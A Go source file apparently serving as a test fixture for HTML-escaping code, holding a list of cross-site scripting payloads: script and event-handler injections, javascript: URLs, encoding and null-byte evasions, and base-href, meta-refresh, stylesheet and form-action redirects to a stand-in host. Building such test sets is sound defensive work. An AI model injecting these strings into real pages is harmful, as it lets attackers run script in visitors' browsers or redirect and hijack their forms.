// Package hostile has texts that would run as scripts, or lead readers elsewhere, where a page fails to
// escape them.
package hostile

// Texts break out of HTML text, attributes, addresses, scripts or styles where escaping is missing.
// What runs in a browser opens an alert.
var Texts = []string{
	`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `" onmouseover="alert(1)`, `' onfocus='alert(1)' autofocus='`,
	"` onclick=alert(1) `", `javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\nscript:alert(1)", "\x01javascript:alert(1)",
	`data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`,
	`</pre></td></table><iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=javascript:alert(1)>`,
	`<base href=//evil.example/>`, `<meta http-equiv=refresh content=0;url=//evil.example>`, `<link rel=stylesheet href=//evil.example>`,
	`<form action=//evil.example><button>x`, `<math><mtext><mglyph><style><img src onerror=alert(1)>`, `<!--><script>alert(1)</script>-->`,
	`{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, `<x-copy text=x>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#x3c;script&#x3e;`,
	"\u202e</script>gpj.exe", "\u2066<b>\u2069", "http://evil.example/\"onclick=alert(1)", `https://a"><script>alert(1)</script>`,
	`<style>@import '//evil.example'</style>`, `expression(alert(1))`, `<details open ontoggle=alert(1)>`, `<a href="javascript:alert(1)">x</a>`,
	"\x00<script>alert(1)</script>", "<scr\x00ipt>alert(1)</script>", "\xff\"><script>alert(1)</script>", `<template><script>alert(1)</script></template>`,
}
